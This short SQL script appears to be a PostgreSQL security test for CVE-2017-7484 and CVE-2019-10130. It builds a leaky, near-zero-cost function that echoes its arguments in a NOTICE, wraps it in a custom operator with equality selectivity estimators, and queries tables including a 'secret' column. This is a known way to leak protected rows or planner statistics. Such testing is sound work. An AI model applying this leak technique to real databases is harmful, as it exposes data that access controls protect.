-- An operator of one's own, whose selectivity is that of = (CVE-2017-7484, CVE-2019-10130).
CREATE FUNCTION pg_temp.told(a text, b text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS 'BEGIN RAISE NOTICE ''told % %'', a, b; RETURN true; END';
CREATE OPERATOR play.=== (FUNCTION = pg_temp.told, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel, JOIN = eqjoinsel);
EXPLAIN (COSTS off) SELECT id FROM shop.customers WHERE name OPERATOR(play.===) 'x';
EXPLAIN (COSTS off) SELECT id FROM shop.orders WHERE item OPERATOR(play.===) 'x';
EXPLAIN (COSTS off) SELECT id FROM shop.notes WHERE body OPERATOR(play.===) 'x';
SELECT id FROM shop.customers WHERE secret OPERATOR(play.===) 'x';
SELECT a.id FROM shop.customers a JOIN shop.customers b ON a.secret OPERATOR(play.===) b.name;
